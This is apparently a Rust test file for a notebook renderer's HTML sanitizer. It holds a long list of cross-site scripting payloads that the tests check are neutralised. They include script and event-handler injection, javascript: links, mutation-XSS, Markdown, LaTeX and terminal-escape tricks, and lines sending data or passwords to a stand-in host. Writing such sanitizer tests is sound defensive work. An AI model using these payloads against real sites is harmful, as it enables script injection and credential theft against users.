//! Each known way to make a page do what its reader did not ask for.

use penny_html::Kind;

use crate::browser::{Page, judge, page};
use crate::{display, every_way, text_cell};

/// What is tried. Each comes in by every way that a notebook has.
pub const ATTACKS: &[&str] = &[
    // Scripts.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\t>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>/*</script><script>*/alert(1)</script>",
    "</pre></code></div><script>alert(1)</script>",
    "</div></div></li></ul></body></html><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    "<script type=module>import 'https://evil.example'</script>",
    // Events.
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x oneRROR\n=\nalert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p onmouseover='alert(1)' onfocus=alert(1) tabindex=1 autofocus>x</p>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a onclick=alert(1) href=https://a.fr>x</a>",
    "<table background=javascript:alert(1)><td background=x onclick=y>z",
    // Addresses.
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='\u{1}javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a><a href='file:///etc/passwd'>y</a>",
    "<a href='/actions/run' target=_self>x</a><a href='#x' rel=opener>y</a>",
    "<a ping=https://evil.example href=https://a.fr download=x>x</a>",
    "<a href=https://a.fr rel=opener target=page>x</a>",
    "<area href=javascript:alert(1)><map name=x><area shape=rect href=x></map>",
    "<a xlink:href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JavaScript&colon;alert&lpar;1&rpar;)",
    "[x](<java\\nscript:alert(1)>)",
    "[x]( javascript:alert(1) 'y')",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x][y]\n\n[y]: javascript:alert(1) \"z\"",
    "[y]\n\n[y]: <javascript:alert(1)>",
    "<javascript:alert(1)> <data:text/html,x> <https://a.fr/\"onclick=alert(1)>",
    "https://a.fr/\"><script>alert(1)</script> http://a.fr/'onclick='x",
    "![x](javascript:alert(1)) ![x](https://evil.example/x.png) ![x](//evil.example/x.png)",
    "![\"onerror=alert(1)](attachment:a \"onerror=alert(1)\")",
    "![x](\"onerror=\"alert(1))",
    "[![x](https://evil.example/p.png)](javascript:alert(1))",
    // Pictures that phone home.
    "<img src=https://evil.example/p.png srcset='https://evil.example/p.png 2x' alt=x>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='data:image/png;base64,iVBORw0KGgo\" onerror=alert(1)'>",
    "<img src='data:image/png,x'><img src='data:text/html;base64,AAAA'>",
    "<img lowsrc=javascript:alert(1) dynsrc=x longdesc=y usemap=#z>",
    "<picture><source srcset=https://evil.example/p.png><img></picture>",
    "<video poster=https://evil.example/p.png src=x autoplay></video><audio src=x autoplay>",
    "<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=x>",
    "<bgsound src=x><embed src=x><object data=x><param name=x></object><applet code=x>",
    // Other documents.
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=x></frameset>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<portal src=x></portal><fencedframe></fencedframe>",
    // The page itself.
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<title>x</title></head><body id=x>",
    "<form action=https://evil.example><input name=password><button>ok</button></form>",
    "<button formaction=javascript:alert(1) form=x>x</button>",
    "<select onchange=x><option>a</select><textarea autofocus>x</textarea><isindex>",
    "<div id=app data-live=home class='banner button' hidden contenteditable accesskey=x>x</div>",
    "<a id=location name=cookie>x</a><img name=getElementById>",
    "<dialog open>x</dialog><template><script>alert(1)</script></template><slot name=x></slot>",
    "<div popover id=x><x-element is=y part=z itemid=w></x-element>",
    // Styles.
    "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
    "<p style='position:fixed;inset:0;background:url(https://evil.example)'>x</p>",
    "<p style='text-align:right;background:url(javascript:alert(1))'>x</p>",
    "<p style='width:expression(alert(1))' class='nb\" onclick=\"x'>x</p>",
    "<font color=red face='x' size=7><center><blink>x</blink></center></font>",
    // What reads differently the second time.
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><foreignObject><iframe srcdoc=x></iframe></foreignObject></svg>",
    "<svg><desc><noscript><svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a><use href=//evil.example/#x></svg>",
    "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>",
    "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]>",
    "<math href=javascript:alert(1)><maction actiontype=statusline xlink:href=x>y</maction></math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><caption><svg><title><style></caption></table><img src=x onerror=alert(1)>",
    "<p><svg><p><style><!--</style><img src=x onerror=alert(1)>-->",
    "<title><!--</title><img src=x onerror=alert(1)>-->",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp><plaintext><b>x",
    "<select><style></select><img src=x onerror=alert(1)>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed><noframes>",
    "<div title='`<script>`' lang='\"><script>' dir='x y'>x</div>",
    "<table><tr><td></div></td></ul></tr></table></section></li>x",
    "<li>x<dd>y<tr>z<td>w<option>v<caption>u<col><frame>",
    "<a href=https://a.fr>x<table><a href=https://b.fr>y</a></table></a>",
    "<p><table><p></p></table></p><h1><h2></h1></h2><b><p></b></p>",
    "</p></br><br/></br>",
    // Markdown that carries HTML in pieces.
    "<div title=\"\n\n$x$ `y` **z**\n\n\">",
    "<div title=\"\n\n```python\nx = '\"><script>alert(1)</script>'\n```\n\n\">",
    "<a href=\"\n\n$\\text{\" onmouseover=alert(1) x=\"}$\n\n\">x</a>",
    "<script>\n\nalert(1)\n\n</script>",
    "<b\n\n onclick=alert(1)>x\n\n<!--\n\n--><img src=x onerror=alert(1)>",
    "`<script>`<script>`alert(1)`</script>",
    "[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:x)\n",
    "[^<script>]\n\n[^<script>]: x\n\n[^\"><b>]: y\n[^\"><b>]",
    "- [x] <img src=x onerror=alert(1)>\n- [ ] $\\href{javascript:x}{y}$",
    "# <script>alert(1)</script> {#id .class onclick=x}",
    "|a|b|\n|-|-|\n|<script>|`|`</td>|",
    "~~~\"onclick=alert(1)\nx\n~~~\n```<script>\ny\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "\u{fdd0}0\u{fdd1} &#xFDD0;0&#xFDD1; &#xFDD0;1&#xFDD1;\n\n```\nx\n```",
    // Formulas.
    r"$\href{javascript:alert(1)}{x} \url{javascript:x} \htmlData{a=b}{x} \htmlId{x}{y}$",
    r"$\class{x onclick=y}{z} \cssId{x}{y} \style{background:url(x)}{y}$",
    r"$\text{</mtext></math><script>alert(1)</script>}$",
    r"$\mathrm{<img src=x onerror=alert(1)>} \operatorname{</mo><script>}$",
    r#"$\hspace{1em" onclick="x} \color{"onclick=x}{y} \textcolor{</math>}{z}$"#,
    r"$\begin{array}{c|c}</mtd><script>alert(1)</script>\end{array}$",
    r"$\def\x{\x\x}\x$ $\newcommand{\a}{\a}\a$ $\unicode{x3c}script\unicode{x3e}$",
    r"\begin{align}<script>alert(1)</script>\end{align}",
    // Terminals.
    "\u{1b}]8;;javascript:alert(1)\u{1b}\\x\u{1b}]8;;\u{1b}\\",
    "\u{1b}]8;;https://evil.example\u{7}x\u{1b}]8;;\u{7}\u{1b}[31;\"onclick=xmy",
    "\u{1b}[38;5;1\"><script>alert(1)</script>m\u{1b}]0;</pre><script>\u{7}",
    "<scr\u{8}\u{8}ipt>\r<img src=x onerror=alert(1)>\u{1b}[1m<b onclick=x>",
    "\u{9d}8;;x\u{9c}\u{9b}31m<script>\u{90}q\u{9c}",
    // Unseen characters.
    "\u{202e}<script>\u{2066}alert(1)\u{2069}\u{feff}\u{0}\u{1}\u{7f}\u{2028}\u{ffff}",
    "<a href='https://a.fr/\u{202e}gpj.exe' title='\u{202e}x'>\u{200f}x</a>",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt><img src=x on\u{0}error=alert(1)>",
    "<img\u{b}src=x\u{c}onerror=alert(1)>\u{a0}<script\u{a0}>x</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
];

#[test]
fn no_attack_reaches_the_page_by_any_way() {
    for attack in ATTACKS {
        for (way, html) in every_way(attack) {
            if let Err(why) = judge(&html) {
                panic!("{attack:?} as {way}: {why} in {html}");
            }
        }
    }
}

#[test]
fn two_attacks_together_are_no_worse() {
    for (index, first) in ATTACKS.iter().enumerate() {
        let second = ATTACKS[(index * 31 + 7) % ATTACKS.len()];
        for text in [format!("{first}{second}"), format!("{first}\n\n{second}")] {
            page(&display("text/html", text.as_str()).html);
            page(&text_cell(&text).html);
        }
    }
}

#[test]
fn an_attack_cut_anywhere_is_no_worse() {
    for attack in ATTACKS {
        for (index, _) in attack.char_indices() {
            let html = display("text/html", &attack[..index]).html;
            if let Err(why) = Page::read(&html, true) {
                panic!("{:?}: {why} in {html}", &attack[..index]);
            }
        }
    }
}

/// The list itself must be able to fail.
#[test]
fn the_browser_here_sees_what_is_not_harmless() {
    for html in [
        "<script>x</script>",
        "<img src=x onerror=y>",
        "<img src=https://a.fr/x.png>",
        "<a href=javascript:x>y</a>",
        "<p style=x>",
        "<p id=x>",
        "<p class=x>",
        "<svg></svg>",
        "<math href=x></math>",
        "</div></div></li></ul><p>",
        "<li>",
    ] {
        assert!(judge(html).is_err(), "{html} passed");
    }
}

#[test]
fn text_of_every_kind_is_seen_as_it_was() {
    let text = "a < b & \"c\" </pre> <script>alert('é')</script> &amp; &#60;";
    assert_eq!(page(&display("text/plain", text).html).text(), text);
    for language in ["python", "r", "bash", "sql", "julia", "javascript", "json", "none"] {
        let html = crate::pre(&penny_html::code(text, language));
        assert_eq!(page(&html).text(), text, "{language}");
    }
    let html = crate::pre(&penny_html::terminal(text));
    assert_eq!(page(&html).text(), text);
}

#[test]
fn what_needs_scripts_says_so() {
    for html in ["<p>a<script>x</script>", "<IFRAME src=x>", "<object data=x>", "a<embed src=x>"] {
        assert_eq!(display("text/html", html).kind, Kind::Active, "{html}");
    }
    for kind in [
        "application/javascript",
        "application/vnd.vegalite.v5+json",
        "application/vnd.plotly.v1+json",
    ] {
        assert_eq!(display(kind, "x").kind, Kind::Active, "{kind}");
    }
    assert_eq!(display("text/html", "<p>script").kind, Kind::Html);
}
